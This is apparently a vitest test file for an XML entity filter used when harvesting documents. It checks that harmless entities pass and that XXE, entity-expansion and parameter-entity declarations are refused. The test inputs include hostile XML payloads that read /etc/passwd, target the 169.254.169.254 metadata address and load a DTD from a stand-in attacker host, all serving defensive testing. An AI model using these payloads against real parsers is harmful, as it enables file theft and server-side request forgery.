import { describe, expect, it } from 'vitest';
import { refusedEntities } from '../../../src/sources/common/xml-entities.js';

describe('entities a harvested XML document may declare', () => {
  it('lets plain text entities pass (RDF/XML namespace shorthands)', () => {
    expect(refusedEntities('<!DOCTYPE rdf:RDF [<!ENTITY xsd "http://www.w3.org/2001/XMLSchema#"><!ENTITY dct \'http://purl.org/dc/terms/\'>]>')).toBeUndefined();
    expect(refusedEntities('<!DOCTYPE html>')).toBeUndefined();
  });

  it('refuses entities built from entities, external entities and parameter entities, naming them', () => {
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>')).toMatch(/entity "b" built from other entities \(entity expansion\)/);
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')).toMatch(/external entity "xxe" \(XXE\)/);
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY ext PUBLIC "-//x//EN" "http://169.254.169.254/">]>')).toMatch(/external entity "ext"/);
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>')).toMatch(/parameter entity "p"/);
  });
});
